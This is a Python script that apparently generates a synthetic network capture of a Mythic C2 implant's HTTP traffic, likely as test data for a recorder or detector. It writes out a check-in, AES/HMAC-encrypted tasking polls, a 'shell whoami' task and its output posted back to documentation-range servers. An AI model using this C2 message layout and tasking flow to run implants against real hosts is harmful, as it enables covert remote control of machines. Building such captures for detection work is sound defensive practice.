"""An agent of Mythic over its http profile, as docs.mythic-c2.net lays messages out: a check-in in the open, then under the
pre-shared key; keys of our own, AES and HMAC are Python's `cryptography` and `hmac`. build.py CAPTURE: writes the capture, prints
the messages."""
import base64
import hashlib
import hmac
import json
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent.parent / "record"))
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
from exchanges import Web, request, response

KEY = bytes(range(32))
PAYLOAD, AGENT = "0b0d3e5a-1111-4222-8333-444455556666", "9a8b7c6d-aaaa-4bbb-8ccc-ddddeeeeffff"
SERVERS = ["198.51.100.20", "203.0.113.20"]


def clear(uuid, message):
    return base64.b64encode(uuid.encode() + json.dumps(message).encode())


def sealed(uuid, message):
    plain = json.dumps(message).encode()
    iv = hashlib.sha256(plain).digest()[:16]
    pad = 16 - len(plain) % 16
    data = iv + Cipher(algorithms.AES(KEY), modes.CBC(iv)).encryptor().update(plain + bytes([pad]) * pad)
    return base64.b64encode(uuid.encode() + data + hmac.new(KEY, data, "sha256").digest())


def say(conversation, side, topic, words):
    print(json.dumps({"kind": "message", "family": "mythic", "conversation": conversation, "side": side, "type": topic, "text": words}))


web = Web()


def post(body, answer, after=10.0):
    server = SERVERS[web.port % 2]
    web.exchange("192.0.2.10", server, 80, request("POST", "/data", server, body, User_Agent="sample"), response(answer), after)


checkin = {"action": "checkin", "uuid": PAYLOAD, "os": "Linux 6.1", "user": "user", "host": "host1", "pid": 4242, "ips": ["192.0.2.10"]}
post(clear(PAYLOAD, checkin), clear(PAYLOAD, {"action": "checkin", "id": AGENT, "status": "success"}))
say(PAYLOAD, "implant", "sysinfo", "user@host1 Linux 6.1 pid 4242")
say(PAYLOAD, "operator", "control", f"is {AGENT} from now on")
say(PAYLOAD, "implant", "beacon", "2 messages in 0 s, 0 of them asked for tasks; 0 stay closed")
poll = {"action": "get_tasking", "tasking_size": 1}
post(sealed(AGENT, poll), sealed(AGENT, {"action": "get_tasking", "tasks": []}))
post(sealed(AGENT, poll), sealed(AGENT, {"action": "get_tasking", "tasks": [{"id": "t1", "command": "shell", "parameters": "whoami"}]}))
say(AGENT, "operator", "shell", "shell whoami")
result = {"action": "post_response", "responses": [{"task_id": "t1", "user_output": "user", "completed": True}]}
post(sealed(AGENT, result), sealed(AGENT, {"action": "post_response", "responses": [{"task_id": "t1", "status": "success"}]}))
say(AGENT, "implant", "shell", "user")
say(AGENT, "implant", "beacon", "6 messages in 20 s, 2 of them asked for tasks; 0 stay closed")
web.write(sys.argv[1])
